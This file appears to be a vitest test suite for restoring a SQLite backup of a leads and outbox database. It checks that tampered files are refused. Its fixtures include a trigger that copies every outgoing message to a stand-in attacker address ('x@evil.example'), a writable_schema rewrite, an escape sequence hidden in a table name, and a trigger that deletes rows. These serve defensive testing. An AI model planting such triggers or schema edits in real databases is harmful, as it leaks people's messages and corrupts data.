import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import Sqlite from 'better-sqlite3'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { createDatabaseFile, openDatabase } from '../database/open-database.ts'
import { newDataDir } from '../testing/start-program.ts'
import { restoreBackup } from './restore-backup.ts'

let folder: ReturnType<typeof newDataDir>
let file: string
beforeEach(() => {
  folder = newDataDir()
  file = join(folder.path, 'given.db')
})
afterEach(() => folder[Symbol.dispose]())

const dataDir = () => join(folder.path, 'data')
const restore = () => restoreBackup(dataDir(), file, new Date('2026-03-02T08:00:00Z'), () => {})
async function change(...statements: string[]) {
  await (await createDatabaseFile(file)).destroy()
  const sqlite = new Sqlite(file)
  sqlite.unsafeMode()
  for (const statement of statements) sqlite.exec(statement)
  sqlite.close()
}

const toStranger = `create trigger tell_stranger after insert on outbox when new.recipient <> 'x@evil.example' begin
  insert into outbox (lead_id, kind, recipient, queued_at, due_at, message_id)
  values (new.lead_id, new.kind, 'x@evil.example', new.queued_at, new.due_at, 'x'); end`

test.each([
  ['a trigger', 'trigger tell_stranger', [toStranger]],
  ['a view', 'view more', ['create view more as select * from leads']],
  ['a table', 'table more', ['create table more (text)']],
  ['a virtual table', 'table more', ['create virtual table more using fts5(text)']],
  ['an index', 'index more', ['create index more on leads (upper(email))']],
  [
    'another view under our name',
    'view lead_overview',
    ['drop view lead_overview', 'create view lead_overview as select * from leads where email <> 1'],
  ],
  [
    'a view in the place of a table',
    'table kept',
    [
      'alter table leads rename to kept',
      'create view leads as with recursive r as (select 1 union all select 1 from r) select * from r',
    ],
  ],
  [
    'a rewritten definition',
    'table settings',
    [
      'pragma writable_schema = on',
      `update sqlite_schema set sql = replace(sql, 'not null)', 'not null default (abs(-1)))') where name = 'settings'`,
    ],
  ],
  ['a column more', 'table accepted_requests', ['alter table accepted_requests add column more text']],
  ['an escape sequence in a name', 'table a ]0;b', ['create table "a\u001b]0;b" (text)']],
])('a file with %s is refused, and nothing is changed', async (_what, named, statements) => {
  await change(...statements)

  await expect(restore()).rejects.toThrow(`It has the ${named}, which this program did not make so`)
  expect(() => new Sqlite(join(dataDir(), 'leads.db'), { fileMustExist: true })).toThrow()
})

test('a file that lacks an index is refused', async () => {
  await change('drop index outbox_open')

  await expect(restore()).rejects.toThrow('It lacks the index outbox_open')
})

test('what ANALYZE leaves does not matter', async () => {
  await change("insert into accepted_requests values ('c', '2026-03-02')", 'analyze')

  await expect(restore()).resolves.toMatchObject({ leads: 0 })
})

// What earlier versions ran, one statement after another; a kill could fall between any two.
const recorded = readFileSync(
  join(import.meta.dirname, '../testing/fixtures/migrations-one-by-one.sql'),
  'utf8',
)
const steps = recorded.split(/^-- /m).flatMap((text) => {
  const [name = '', ...lines] = text.split('\n')
  return name ? [{ name, statements: lines.join('\n').trim().split(/;$/m).filter(Boolean) }] : []
})
const stages = steps.flatMap(({ name, statements }, index) =>
  index === 0 ? [] : [0, ...statements.keys()].map((count) => ({ name, count })),
)

test.each(stages)(
  'a file from before $name, with $count statements of it, is restored or has no outbox',
  async ({ name, count }) => {
    const sqlite = new Sqlite(file)
    for (const step of steps) {
      const isLast = step.name === name
      for (const statement of step.statements.slice(0, isLast ? count : undefined)) sqlite.exec(statement)
      if (isLast) break
      sqlite.prepare("insert into kysely_migration values (?, '2026-03-02T08:00:00.000Z')").run(step.name)
    }
    const isReadable = sqlite.prepare("select 1 from sqlite_schema where name = 'outbox'").get() !== undefined
    sqlite.close()

    if (!isReadable) await expect(restore()).rejects.toThrow('no such table: outbox')
    else {
      await expect(restore()).resolves.toMatchObject({ leads: 0, schema: 'older' })
      await (await openDatabase(dataDir())).destroy()
    }
  },
)

test('a trigger in a file of an earlier version is refused as well', async () => {
  const sqlite = new Sqlite(file)
  for (const statement of steps[0]?.statements ?? []) sqlite.exec(statement)
  sqlite.prepare("insert into kysely_migration values (?, '2026-03-02T08:00:00.000Z')").run(steps[0]?.name)
  sqlite.exec('create trigger t after insert on leads begin delete from outbox; end')
  sqlite.close()

  await expect(restore()).rejects.toThrow('It has the trigger t, which this program did not make so')
})
